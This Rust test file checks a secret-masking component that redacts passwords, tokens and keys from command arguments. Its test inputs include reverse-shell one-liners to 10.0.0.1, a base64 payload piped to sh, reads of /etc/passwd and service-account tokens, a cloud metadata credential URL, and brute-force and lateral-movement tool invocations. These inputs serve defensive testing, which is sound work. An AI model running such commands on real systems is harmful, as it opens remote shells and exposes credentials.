//! Secrets that must go, words that must stay.

use std::sync::LazyLock;

use proptest::prelude::*;

use super::*;

fn masker() -> &'static Masker {
    static MASKER: LazyLock<Masker> = LazyLock::new(|| Masker::new([7; 16], &["geheim".to_owned()]));
    &MASKER
}

/// Masks the arguments that are told apart by a character.
fn by(separator: char, line: &str) -> String {
    let mut args: Vec<String> = line.split(separator).map(str::to_owned).collect();
    masker().args(&mut args);
    args.join(&separator.to_string())
}

fn args(line: &str) -> String {
    by('|', line)
}

#[test]
fn secrets_go_and_the_rest_stays() {
    // Every `hunter…` is a secret.
    let secret = [
        "app|--password|hunter2",
        "app|--password=hunter2",
        "app|--db-password|hunter2|--verbose",
        "app|-token|hunter2",
        "mysql|-phunter2|shop",
        "sshpass|-p|hunter2|ssh|a@b",
        "redis-cli|-a|hunter2",
        "curl|-u|user:hunter2|http://a",
        "curl|-H|Authorization: Bearer hunter2hunter2",
        "curl|https://user:hunter2@host/path",
        "curl|https://host/x?a=1&sig=hunter2&b=2",
        "sh|-c|PGPASSWORD=hunter2 psql -h db",
        "sh|-c|export API_KEY=hunter2; run",
        "env|AWS_SECRET_ACCESS_KEY=hunter2",
        "app|--geheim=hunter2",
        "sh|-c|x --password 'hunter2'; y",
        "curl|-H|X-Api-Key: hunter2",
        "docker|login|-p|hunter2",
        "x|Server=db;User=sa;Pwd=hunter2;",
        "git|clone|https://me:hunter2@h/r",
        "app|DefaultEndpointsProtocol=https;AccountKey=hunter2;x=y",
    ];
    for line in secret {
        let masked = args(line);
        assert!(!masked.contains("hunter") && masked.contains("<masked:"), "{line} -> {masked}");
    }
    let plain = [
        "docker|run|-p|8080:80|nginx",
        "env|PWD=/srv|OLDPWD=/",
        "sh|-c|PWD=/srv ls",
        "x|--token|--verbose|a",
        "curl|http://h:80/p?q=x",
        "ls|-la|/run/secrets",
        "grep|-r|password|/etc",
        "env|PATH=/bin|KEYBOARD=us",
        "ls|-p|/tmp",
        "app|--password-file|/run/secret/x",
        "app|--max-tokens=5",
        "curl|http://host:8080/path",
        "curl|host:8080",
        "git|commit|-m|rotate the password",
        "tar|-c|--file=a.tar",
        "mysql|--protocol=tcp",
    ];
    for line in plain {
        assert_eq!(args(line), line);
    }
}

#[test]
fn forms_of_tokens() {
    let masker = masker();
    for secret in [
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
        "ghp_0123456789abcdef0123456789abcdef0123",
        "AKIAIOSFODNN7EXAMPLE",
    ] {
        let text = format!("see {secret} here");
        let shown = masker.text(&text);
        assert!(!shown.contains(secret) && shown.starts_with("see <masked:") && shown.ends_with("> here"), "{shown}");
    }
    let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----";
    assert!(!masker.text(key).contains("MIIEow"));
}

#[test]
fn equal_secrets_stay_comparable_within_a_salt_only() {
    let mask = |salt, secret: &str| Masker::new([salt; 16], &[]).text(&format!("TOKEN={secret}")).into_owned();
    assert_eq!(mask(1, "hunter22"), mask(1, "hunter22"));
    assert_ne!(mask(1, "hunter22"), mask(1, "hunter23"));
    assert_ne!(mask(1, "hunter22"), mask(2, "hunter22"));
    assert!(mask(1, "hunter22").contains(":medium:"));
    let once = mask(1, "hunter22");
    assert_eq!(Masker::new([1; 16], &[]).text(&once), once, "a mask is not masked again");
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text: String, args: Vec<String>) {
        let masker = masker();
        masker.text(&text);
        let mut args = args;
        masker.args(&mut args);
    }
}

fn masked(line: &str) -> String {
    by('¦', line)
}

/// Arguments are told apart by `¦`; every `hunter…` is a secret.
const COMMANDS: &str = r#"
    aws¦configure¦set¦aws_secret_access_key¦hunter2/abc+def
    aws¦--profile¦x¦configure¦set¦aws_session_token¦hunter2
    env¦AWS_SESSION_TOKEN=hunter2 with blanks;and more hunter3¦app
    az¦login¦--service-principal¦-u¦app¦-p¦hunter2¦--tenant¦t
    az¦storage¦blob¦list¦--account-key¦hunter2==
    az¦storage¦blob¦list¦--connection-string¦DefaultEndpointsProtocol=https;AccountName=a;AccountKey=hunter2==
    app¦Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=hunter2=
    azcopy¦copy¦https://a.blob.core.windows.net/c?sv=2022-11-02&sr=c&sig=hunter%2B2%3D&se=2026
    app¦--sas-url¦https://a/hunter2
    kubectl¦--token¦hunter2¦get¦pods
    kubectl¦create¦secret¦generic¦db¦--from-literal=password=hunter2¦--from-literal=api-key=hunter3
    kubectl¦config¦set-credentials¦me¦--token=hunter2
    helm¦install¦x¦--set¦auth.password=hunter2,image.tag=v1,db.pass=hunter3
    helm¦registry¦login¦r.io¦-u¦me¦-p¦hunter2
    docker¦run¦-e¦MYSQL_ROOT_PASSWORD=hunter2¦--env=DB_PASS=hunter3¦mysql
    docker¦login¦-u¦me¦-phunter2¦r.io
    podman¦login¦--password¦-hunter2-HUNTER¦r.io
    sh¦-c¦echo hunter2 | docker login -u me --password-stdin r.io
    sh¦-c¦docker login --password-stdin r.io <<< hunter2
    bash¦-c¦echo 'hunter2' | sudo -S apt update
    bash¦-c¦echo "root:hunter2" | chpasswd
    bash¦-c¦printf '%s' hunter2 | gh auth login --with-token
    sudo¦mysql¦-uroot¦-phunter2¦shop
    docker¦exec¦db¦mysqldump¦-u¦root¦-phunter2¦--all-databases
    sh¦-c¦mysql -uroot -phunter2 -e 'select 1'; sshpass -p 'hunter3' ssh a@b
    sh¦-c¦mysql -e "ALTER USER 'x'@'%' IDENTIFIED BY 'hunter2'"
    psql¦-c¦ALTER ROLE x WITH PASSWORD 'hunter2'
    psql¦postgresql://me:hunter2@db:5432/shop?sslmode=require
    psql¦host=db user=me password=hunter2 dbname=shop
    psql¦host=db user=me password='hunter2 hunter3' dbname=shop
    bash¦-c¦PGPASSWORD='hunter2 x' psql -h db
    mongosh¦mongodb://me:hun@hunter2@h1:27017,h2:27017/admin
    mongosh¦-u¦me¦-p¦hunter2
    redis-cli¦-u¦redis://:hunter2@h:6379
    redis-cli¦-h¦h¦AUTH¦hunter2
    redis-cli¦CONFIG¦SET¦requirepass¦hunter2
    env¦REDISCLI_AUTH=hunter2¦redis-cli
    curl¦-sSu¦me:hunter2¦https://h
    curl¦--user¦me@example.com:hunter2¦https://h
    curl¦--user=me:hunter2¦https://h
    curl¦-uadmin:hunter/2¦https://h
    curl¦-d¦{"user":"me","password":"hunter2"}¦https://h
    curl¦-d¦user=me&password=hunter2&x=1¦https://h
    curl¦-H¦X-JFrog-Art-Api: hunter2¦https://h
    curl¦-H¦Cookie: session=hunter2; other=hunter3¦https://h
    curl¦-H¦PRIVATE-TOKEN:hunter2¦https://h
    sh¦-c¦curl -H "Authorization: Basic hunter2==" -d '{\"token\": \"hunter3\"}' https://h
    curl¦-X¦POST¦https://hooks.slack.com/services/T000/B000/hunter2
    http¦-a¦me:hunter2¦https://h
    lftp¦-u¦me,hunter2¦ftp://h
    wget¦--http-password=hunter2¦https://h
    wget¦--header=Authorization: Bearer hunter2hunter2¦https://h
    git¦clone¦https://hunter2hunter2hunter2hunter2@github.com/a/b
    git¦-c¦http.extraHeader=AUTHORIZATION: basic hunter2hunter2¦fetch
    npm¦config¦set¦//registry.npmjs.org/:_authToken=hunter2
    npm¦config¦set¦//registry.npmjs.org/:_authToken¦hunter2
    smbclient¦//h/s¦-U¦dom/me%hunter2
    ldapsearch¦-x¦-D¦cn=admin¦-w¦hunter2
    openssl¦enc¦-aes-256-cbc¦-pass¦pass:hunter2
    openssl¦pkcs12¦-passin¦pass:hunter2¦-passout¦pass:hunter3
    openssl¦enc¦-k¦hunter2
    keytool¦-list¦-storepass¦hunter2
    ssh-keygen¦-t¦ed25519¦-N¦hunter2¦-f¦k
    unzip¦-P¦hunter2¦a.zip
    7z¦x¦-phunter2¦a.7z
    ansible-playbook¦-e¦ansible_become_pass=hunter2¦p.yml
    ansible¦all¦--extra-vars¦{"db_password": "hunter2"}
    java¦-Dspring.datasource.password=hunter2¦-jar¦a.jar
    vault¦kv¦put¦secret/app¦api_token=hunter2
    sh¦-c¦cat > ~/.netrc <<EOF_machine h login me password hunter2_EOF
    sh¦-c¦cat > app.yaml <<EOF_db:_  user: me_  password: hunter2_  token: "hunter3"_EOF
    bash¦-c¦sudo bash -c "mysql -phunter2 -e 'show tables'"
    nmcli¦dev¦wifi¦connect¦home¦password¦hunter2
    plink¦-pw¦hunter2¦h
    sqlcmd¦-S¦h¦-U¦sa¦-P¦hunter2
    export GITLAB_TOKEN=hunter2
    env¦SPRING_DATASOURCE_PASSWORD=hunter2
    env¦DATABASE_URL=postgres://u:hunter2@h/db
    env¦REDIS_URL=redis://default:hunter2@h:6379/0
    env¦AMQP_URL=amqps://u:hunter2@h/v
    env¦APPLICATIONINSIGHTS_CONNECTION_STRING=InstrumentationKey=hunter2;x=y
    env¦AzureWebJobsStorage=DefaultEndpointsProtocol=https;AccountName=a;AccountKey=hunter2==;EndpointSuffix=core
    env¦SECRET_KEY_BASE=hunter2
    env¦JWT_SECRET=hunter2
    env¦HTTP_PROXY=http://u:hunter2@proxy:3128
    env¦SMTP_PASS=hunter2
    env¦RABBITMQ_DEFAULT_PASS=hunter2
    env¦STRIPE_API_KEY=hunter2
    env¦ENCRYPTION_KEY=hunter2
    env¦DJANGO_SECRET=hunter2
    env¦VAULT_TOKEN=hunter2
    env¦NPM_TOKEN=hunter2
    env¦DOCKER_AUTH_CONFIG={"auths":{"r.io":{"auth":"hunter2hunter2=="}}}
    env¦GOOGLE_CREDENTIALS={"private_key":"-----BEGIN PRIVATE KEY-----\nhunter2\n-----END PRIVATE KEY-----\n"}
    env¦PASSWORD=hunter2
    env¦LDAP_BIND_PW=hunter2
    terraform¦apply¦-var¦db_password=hunter2
    terraform¦apply¦-var=db_password=hunter2
    gcloud¦auth¦login¦--access-token=hunter2
    rclone¦copy¦--s3-secret-access-key¦hunter2
    gpg¦--batch¦--passphrase¦hunter2¦-d¦x
    gh¦secret¦set¦FOO_TOKEN¦--body¦hunter2
    flux¦bootstrap¦--token-auth¦--password=hunter2
    argocd¦login¦h¦--username¦a¦--password¦hunter2
    vault¦login¦hunter2
    vault¦login¦token=hunter2
    consul¦kv¦get¦-token=hunter2¦x
    etcdctl¦--user¦root:hunter2¦get¦/
    cqlsh¦-u¦x¦-p¦hunter2
    influx¦-username¦x¦-password¦hunter2
    snowsql¦-a¦x¦-u¦y¦--password¦hunter2
    sh¦-c¦curl -s -u 'me:hunter2' https://h | jq .
    sh¦-c¦curl -s -uadmin:hunter2 https://h
    sh¦-c¦wget --user=me --password=hunter2 https://h
    sh¦-c¦mysqldump -h h -u u --password='hunter2' db > x.sql
    sh¦-c¦export AWS_ACCESS_KEY_ID=AKIAhunter2 AWS_SECRET_ACCESS_KEY="hunter2/x"
    sh¦-c¦kubectl create secret docker-registry r --docker-password=hunter2
    sh¦-c¦az acr login -n x -u u -p hunter2
    sh¦-c¦az sql server create --admin-password hunter2
    sh¦-c¦az ad sp create --password "hunter2"
    sh¦-c¦echo 'export DB_PASSWORD="hunter2"' >> ~/.bashrc
    sh¦-c¦sed -i 's/^password=.*/password=hunter2/' x.ini
    sh¦-c¦python3 -c "requests.get('x', headers={'Authorization': 'Token hunter2'})"
    sh¦-c¦psql "postgresql://u:hunter2@h/db" -c 'select 1'
    sh¦-c¦smbclient -U 'u%hunter2' //h/s
    sh¦-c¦ssh-keygen -t rsa -N 'hunter2' -f k
    sh¦-c¦openssl rsa -in k -passin 'pass:hunter2'
    sh¦-c¦sshpass -phunter2 ssh a@b
    sh¦-c¦SSHPASS=hunter2 sshpass -e ssh a@b
    sh¦-c¦ansible-vault decrypt --vault-password hunter2
    sh¦-c¦ftp ftp://u:hunter2@h/x
    sh¦-c¦rabbitmqctl add_user u hunter2
    sh¦-c¦echo -n hunter2 | base64 | docker login --password-stdin x
    sh¦-c¦passwd --stdin root <<< hunter2
    sh¦-c¦echo hunter2 | passwd --stdin root
    sh¦-c¦echo -e 'hunter2\nhunter2' | passwd root
    sh¦-c¦echo hunter2 | cryptsetup luksOpen /dev/x y
    sh¦-c¦echo "hunter2" | kinit u
    node¦-e¦fetch("https://h",{headers:{"X-Api-Key":"hunter2"}})
    python3¦x.py¦--api-key¦hunter2¦--client_secret¦hunter2
    docker¦build¦--build-arg¦NPM_TOKEN=hunter2¦.
    docker¦run¦--env¦REDIS_PASSWORD=hunter2¦x
    svn¦co¦--username¦u¦--password¦hunter2¦x
    rdesktop¦-u¦u¦-p¦hunter2¦h
    evil-winrm¦-u¦u¦-p¦hunter2¦-i¦h
    hydra¦-l¦u¦-p¦hunter2¦ssh://h
    crackmapexec¦smb¦h¦-u¦u¦-p¦hunter2
    impacket-psexec¦dom/u:hunter2@10.0.0.1
    psexec.py¦dom/u:hunter2@10.0.0.1
    cloudflared¦tunnel¦run¦--token¦hunter2
    tailscale¦up¦--authkey=hunter2
    ngrok¦config¦add-authtoken¦hunter2
    sentry-cli¦--auth-token¦hunter2
    firebase¦deploy¦--token¦hunter2
    twine¦upload¦-u¦__token__¦-p¦hunter2
    mvn¦deploy¦-Dgpg.passphrase=hunter2
    gradle¦publish¦-PnexusPassword=hunter2
    dotnet¦nuget¦push¦-k¦hunter2
    nuget¦push¦x¦-ApiKey¦hunter2
    sqlcmd¦Server=tcp:h,1433;User ID=sa;Password=hunter2;Encrypt=True
"#;

#[test]
fn secrets_of_commands_go() {
    for line in COMMANDS.lines().map(str::trim).filter(|line| !line.is_empty()) {
        // A line's end inside a script.
        let line = line.replace("EOF_", "EOF\n").replace("_EOF", "\nEOF").replace(":_ ", ":\n ").replace("_  ", "\n  ");
        let masked = masked(&line);
        assert!(!masked.contains("unter") && masked.contains("<masked:"), "{line}\n -> {masked}");
    }
}

#[test]
fn what_only_looks_like_a_secret_stays() {
    let plain = r#"
        docker¦pull¦nginx@sha256:9d6b58feebd2dbd3c56ab5853333d627cc6e281011cfd6050fa4bcf2072c9496
        docker¦run¦-p¦8080:80¦-v¦/run/secrets/token:/t¦nginx:1.25@sha256:9d6b58feebd2dbd3c56ab5853333d627
        git¦checkout¦4f2e8a1c9b7d6e5f3a2b1c0d9e8f7a6b5c4d3e2f
        git¦log¦--author=me¦--format=%H
        git¦config¦--global¦credential.helper¦store
        git¦commit¦-m¦fix token: handle the end of file
        sha256sum¦-c¦9d6b58feebd2dbd3c56ab5853333d627cc6e281011cfd6050fa4bcf2072c9496  a.tar
        mount¦UUID=3e6be9de-8139-11d1-9106-a43f08d823a6¦/mnt
        sh¦-c¦echo aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQo= | base64 -d | sh
        cat¦/var/run/secrets/kubernetes.io/serviceaccount/token
        app¦--token=/var/run/secrets/tokens/x¦--password-file¦/run/secrets/p
        kubectl¦get¦secret¦db-password¦-o¦yaml
        kubectl¦create¦secret¦generic¦db¦--from-file=./password.txt
        kubectl¦exec¦pod¦--¦sh¦-c¦cat /etc/passwd
        sh¦-c¦grep -r password= /etc; find / -name '*.key'
        sh¦-c¦export TOKEN=$(cat /run/secrets/t) && curl -H "Accept: text/html" h -o $TOKEN_FILE
        sh¦-c¦PASSWORD=$DB_PASSWORD PASS=${PASS} run
        sh¦-c¦if [ "$PASSWORD" = "" ]; then exit; fi
        awk¦-F:¦{print $1}¦/etc/passwd
        curl¦http://169.254.169.254/latest/meta-data/iam/security-credentials/role
        curl¦-u¦me¦http://h
        curl¦http://h:8080/a/b@c
        scp¦user@host:/etc/passwd¦.
        python3¦-c¦import os; print(os.environ["HOME"])
        psql¦-h¦db¦-p¦5432¦-U¦me
        ssh¦-p¦2222¦me@h
        mysql¦-u¦root¦-e¦select 1
        openssl¦s_client¦-connect¦h:443¦-keyform¦PEM
        env¦PATH=/bin:/usr/bin¦LS_COLORS=di=01;34:ln=01;36¦PWD=/srv
        java¦-Xmx1g¦-Dfile.encoding=UTF-8¦-jar¦tokenizer.jar
        app¦--max-tokens¦5¦--auth¦none¦--pass-through
        npm¦run¦build¦--cache¦/tmp/npm_package_config_cache_dir_of_mine
        nc¦-e¦/bin/sh¦10.0.0.1¦4444
        bash¦-i¦>&¦/dev/tcp/10.0.0.1/4444
        apt-get¦install¦-y¦libpam-passwdqc¦passwd
        passwd¦-l¦root
        ls¦/usr/share/locale/sk-something-long-and-longer
        chpasswd¦-e
        tar¦--exclude=secrets¦-czf¦a.tgz¦/home/me/.ssh
        cookiecutter¦gh:a/b
        docker¦exec¦-u¦root¦web¦mkdir¦-p¦data
        sudo¦-u¦me¦mkdir¦-p¦data
        psql¦-U¦me¦-p¦5432¦shop
        sh¦-c¦getent passwd root | cut -d: -f1; echo done | grep passwd
        ps¦-u¦root¦-p¦1,2
        curl¦--cookie-jar¦/tmp/jar¦http://h
    "#;
    let plain = plain.lines().map(str::trim).filter(|line| !line.is_empty());
    let wrong: Vec<String> = plain.filter(|line| masked(line) != **line).map(masked).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn tokens_go_by_their_form() {
    // Put together here, so that no scanner takes them for real ones.
    let tail = "0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX";
    for prefix in [
        "ghp_",
        "gho_",
        "ghs_",
        "github_pat_11AAA",
        "glpat-",
        "glrt-",
        "xoxb-1234-",
        "xapp-1-A-",
        "sk_live_",
        "rk_test_",
        "npm_",
        "pypi-AgEI",
        "hvs.CAES",
        "dckr_pat_",
        "hf_",
        "AIza",
        "GOCSPX-",
        "shpat_",
        "glsa_",
        "sk-ant-api03-",
        "sk-proj-",
        "SG.abc.",
        "dop_v1_",
        "whsec_",
        "sk-",
        "rubygems_",
        "AGE-SECRET-KEY-1",
    ] {
        let token = format!("{prefix}{tail}");
        let shown = masked(&format!("app¦{token}¦--x"));
        assert!(shown.starts_with("app¦<masked:") && shown.ends_with(">¦--x"), "{token} -> {shown}");
        let shown = masker().text(&format!("echo \"{token}\" | tool")).into_owned();
        assert!(shown.contains("<masked:") && !shown.contains(tail), "{token} -> {shown}");
    }
    let key = format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{tail}\n-----END OPENSSH PRIVATE KEY-----");
    let pgp = format!("-----BEGIN PGP PRIVATE KEY BLOCK-----\n{tail}\n-----END PGP PRIVATE KEY BLOCK-----");
    for text in [key, pgp] {
        assert!(!masked(&format!("sh¦-c¦echo '{text}' > k")).contains(tail), "{text}");
    }
}
